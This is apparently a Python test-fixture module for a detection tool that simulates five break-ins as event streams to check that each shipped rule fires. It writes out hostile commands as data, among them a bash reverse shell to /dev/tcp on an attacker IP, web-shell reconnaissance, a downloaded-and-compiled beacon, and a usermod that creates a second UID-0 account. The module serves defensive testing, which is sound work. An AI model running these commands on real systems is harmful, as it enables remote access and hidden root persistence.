"""Break-ins, one for each of the first five shipped rules, and what must come of them.

Each is a short story on one machine: what led there, the deed that its rule looks for, what followed.
It fires its own rule once, and no other.
"""

from __future__ import annotations

import heapq
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from typing import NamedTuple

from detectord.demo.machines import (
    APP_POOL,
    MILLISECOND,
    ROOT,
    SECOND,
    WWW,
    Act,
    Connected,
    Document,
    Ended,
    Forked,
    Host,
    LoggedOn,
    Machine,
    ReporterName,
    Resolved,
    Started,
    Wrote,
)
from detectord.demo.reporters import reported
from detectord.events.time import parse_instant

ATTACKER = "203.0.113.66"
"""Where they come from and call home to."""

SPACING = 12 * SECOND
"""From the start of one attack to the start of the next, when nobody says otherwise: longer than any
takes, so that they are told apart."""


class ExpectedAlert(NamedTuple):
    """What an attack must bring: one alert of this rule on this host, made of so many events."""

    rule_id: str
    host_id: str
    events: int


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack as it was seen: its events in order of time."""

    title: str
    host: Host
    events: tuple[Document, ...]
    expected: ExpectedAlert


@dataclass(frozen=True, slots=True)
class Plan:
    """An attack that has not happened yet. `where` lists the roles of machines it fits, best first,
    `seen_by` the products whose events its rule asks for, `matched` the events of its alert."""

    rule_id: str
    title: str
    where: tuple[str, ...]
    seen_by: tuple[ReporterName, ...]
    matched: int
    story: Callable[[Machine], Iterator[Act]]

    def fits(self, host: Host) -> bool:
        """Whether it can happen there and be seen."""
        return host.role in self.where and host.reporter in self.seen_by

    def on(self, host: Host, start_ns: int) -> Attack:
        """The attack on `host`, beginning at `start_ns` (ns since the epoch, cut to milliseconds)."""
        machine = Machine(host, f"attack {self.rule_id}", start_ns - start_ns % MILLISECOND)
        return Attack(
            self.title,
            host,
            tuple(_told(machine, self.story(machine))),
            ExpectedAlert(self.rule_id, host.id, self.matched),
        )


def attacks(hosts: Sequence[Host], start_ns: int, *, spacing_ns: int = SPACING) -> list[Attack]:
    """One attack of every plan on the machines it fits best, one after another from `start_ns` on.

    Raises:
        ValueError: no machine fits one of them.
    """
    return [
        plan.on(_target(plan, hosts), start_ns + number * spacing_ns) for number, plan in enumerate(PLANS)
    ]


def interleave(traffic: Iterable[Document], attacks: Sequence[Attack]) -> Iterator[Document]:
    """Traffic and attacks as one stream in order of event time.

    Traffic that is out of order stays as it is; an attack's event then comes before the first one
    that is later. Events of an attacked machine's agent are numbered anew where they have numbers.
    """
    attacked = {attack.host.agent_id for attack in attacks}
    streams = [traffic, *(attack.events for attack in attacks)]
    numbers: dict[str, int] = {}
    for document in heapq.merge(*streams, key=_event_time):
        agent = document.get("agent")
        name = agent.get("id") if isinstance(agent, dict) else None
        if name not in attacked or "sequence" not in document["event"]:
            yield document
            continue
        number = numbers[name] = numbers.get(name, document["event"]["sequence"] - 1) + 1
        yield {**document, "event": {**document["event"], "sequence": number}}


def _event_time(document: Document) -> int:
    return parse_instant(document.get("@timestamp")) or 0


def _target(plan: Plan, hosts: Sequence[Host]) -> Host:
    fitting = sorted(
        (host for host in hosts if plan.fits(host)), key=lambda host: plan.where.index(host.role)
    )
    if not fitting:
        raise ValueError(f"no machine fits the attack: {plan.title}")
    return fitting[0]


def _told(machine: Machine, acts: Iterator[Act]) -> Iterator[Document]:
    for document in reported(machine, acts):
        yield document
        machine.wait(0.002)


# --- the five --------------------------------------------------------------------------------


def _terminal_shell(machine: Machine) -> Iterator[Act]:
    """A hole in a web shop's upload form lets somebody run one command: a shell that calls home."""
    nginx = machine.service("/usr/sbin/nginx", "worker", "process", user=WWW)
    php = machine.service("/usr/sbin/php-fpm8.3", "pool", "www", user=WWW)
    yield Connected(nginx, ATTACKER, 443, incoming=True)
    yield Wrote(php, "/var/www/html/media/avatar.php", 118)
    machine.wait(1.4)
    yield Connected(nginx, ATTACKER, 443, incoming=True)
    shell = machine.spawn(
        php,
        "/usr/bin/bash",
        "-c",
        f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1",
        directory="/var/www/html/media",
    )
    yield Started(shell)
    yield Connected(shell, ATTACKER, 4444)
    interactive = machine.replace(shell, "/usr/bin/bash", "-i")
    yield Started(interactive, replaced=True)
    for program, args in (
        ("/usr/bin/id", ()),
        ("/usr/bin/uname", ("-a",)),
        ("/usr/bin/cat", ("/etc/passwd",)),
    ):
        machine.wait(0.9)
        command = machine.spawn(interactive, program, *args)
        yield Started(command)
        yield Ended(command)


def _web_shell(machine: Machine) -> Iterator[Act]:
    """A page left in an upload folder runs whatever it is asked to."""
    worker = machine.service(r"C:\Windows\System32\inetsrv\w3wp.exe", "-ap", "DefaultAppPool", user=APP_POOL)
    yield Connected(worker, ATTACKER, 443, incoming=True)
    yield Wrote(worker, r"C:\inetpub\wwwroot\uploads\help.aspx", 1_442)
    machine.wait(2.0)
    yield Connected(worker, ATTACKER, 443, incoming=True)
    shell = machine.spawn(
        worker,
        r"C:\Windows\System32\cmd.exe",
        "/c",
        "whoami /priv & net user",
        directory="C:\\inetpub\\wwwroot\\uploads\\",
    )
    yield Started(shell)
    for program, args in (
        (r"C:\Windows\System32\whoami.exe", ("/priv",)),
        (r"C:\Windows\System32\net.exe", ("user",)),
    ):
        command = machine.spawn(shell, program, *args)
        yield Started(command)
        yield Ended(command)
    yield Ended(shell)


def _interpreter_shell(machine: Machine) -> Iterator[Act]:
    """A line of Python, run through a hole in an application, forks and calls home."""
    server = machine.service("/usr/bin/python3", "-m", "gunicorn", "shop.wsgi", "--workers", "4", user=WWW)
    yield Connected(server, ATTACKER, 8000, incoming=True)
    line = f"import os, rig; os.fork() or rig.call('{ATTACKER}', 9001)"
    shell = machine.spawn(server, "/usr/bin/dash", "-c", 'python3 -c "$PAYLOAD"', directory="/srv/shop")
    yield Started(shell)
    python = machine.spawn(shell, "/usr/bin/python3", "-c", line)
    yield Started(python)
    machine.wait(0.12)
    child = machine.fork(python)
    yield Forked(child)
    machine.wait(0.18)
    yield Connected(child, ATTACKER, 9001)
    terminal = machine.spawn(child, "/usr/bin/dash")
    yield Started(terminal)
    machine.wait(1.1)
    listing = machine.spawn(terminal, "/usr/bin/ls", "-la", "/srv/shop/config")
    yield Started(listing)
    yield Ended(listing)


def _compiled_beacon(machine: Machine) -> Iterator[Act]:
    """Somebody downloads a program's source, compiles it where it is to run, and starts it."""
    person = machine.host.person
    sshd = machine.service("/usr/sbin/sshd", "-D")
    yield LoggedOn(person, ATTACKER, sshd)
    shell = machine.spawn(sshd, "/usr/bin/bash", "--login", user=person, directory="/tmp")  # noqa: S108 - in a story
    yield Started(shell)
    machine.wait(0.8)
    curl = machine.spawn(shell, "/usr/bin/curl", "-fsSO", "http://files.example.test/beacon.c")
    yield Started(curl)
    yield Resolved(curl, "files.example.test", ATTACKER)
    yield Connected(curl, ATTACKER, 80)
    yield Wrote(curl, "/tmp/beacon.c", 4_120)  # noqa: S108 - in a story
    yield Ended(curl)
    machine.wait(1.2)
    gcc = machine.spawn(shell, "/usr/bin/gcc", "-O2", "-o", "beacon", "beacon.c")
    yield Started(gcc)
    linker = machine.spawn(
        gcc, "/usr/bin/ld", "-dynamic-linker", "/lib64/ld-linux-x86-64.so.2", "-o", "beacon"
    )
    yield Started(linker)
    yield Wrote(linker, "/tmp/beacon", 16_320)  # noqa: S108 - in a story
    yield Ended(linker)
    yield Ended(gcc)
    machine.wait(0.7)
    beacon = machine.spawn(shell, "/tmp/beacon", "--daemon")  # noqa: S108 - in a story
    yield Started(beacon)
    machine.wait(0.3)
    yield Connected(beacon, ATTACKER, 8443)


def _second_root(machine: Machine) -> Iterator[Act]:
    """Somebody who got in gives a forgotten account the number of root, to come back as root."""
    person = machine.host.person
    sshd = machine.service("/usr/sbin/sshd", "-D")
    yield LoggedOn(person, ATTACKER, sshd)
    shell = machine.spawn(sshd, "/usr/bin/bash", "--login", user=person, directory=f"/home/{person.name}")
    yield Started(shell)
    machine.wait(1.0)
    sudo = machine.spawn(shell, "/usr/bin/sudo", "-i", user=ROOT)
    yield Started(sudo)
    root = machine.spawn(sudo, "/usr/bin/bash", "--login", directory="/root")
    yield Started(root)
    machine.wait(0.9)
    change = machine.spawn(root, "/usr/sbin/usermod", "-u", "0", "-o", "-s", "/bin/bash", "backup")
    yield Started(change)
    yield Ended(change)
    password = machine.spawn(root, "/usr/bin/passwd", "backup")
    yield Started(password)
    yield Ended(password)


PLANS: tuple[Plan, ...] = (
    Plan(
        "a1a0375f-22c2-48c0-81a4-7c2d11cc6856",
        "a shell calls home through a hole in a web shop",
        ("web", "app"),
        ("defend",),
        1,
        _terminal_shell,
    ),
    Plan(
        "2917d495-59bd-4250-b395-c29409b76086",
        "a page in an upload folder runs commands",
        ("iis",),
        ("sysmon", "defend", "security"),
        1,
        _web_shell,
    ),
    Plan(
        "4b1a807a-4e7b-414e-8cea-24bf580f6fc5",
        "a line of Python forks and calls home",
        ("app", "web"),
        ("defend",),
        2,
        _interpreter_shell,
    ),
    Plan(
        "64cfca9e-0f6f-4048-8251-9ec56a055e9e",
        "a program is compiled, started, and calls home",
        ("build",),
        ("defend",),
        4,
        _compiled_beacon,
    ),
    Plan(
        "494ebba4-ecb7-4be4-8c6f-654c686549ad",
        "a forgotten account becomes a second root",
        ("bastion", "db"),
        ("auditbeat", "defend"),
        1,
        _second_root,
    ),
)
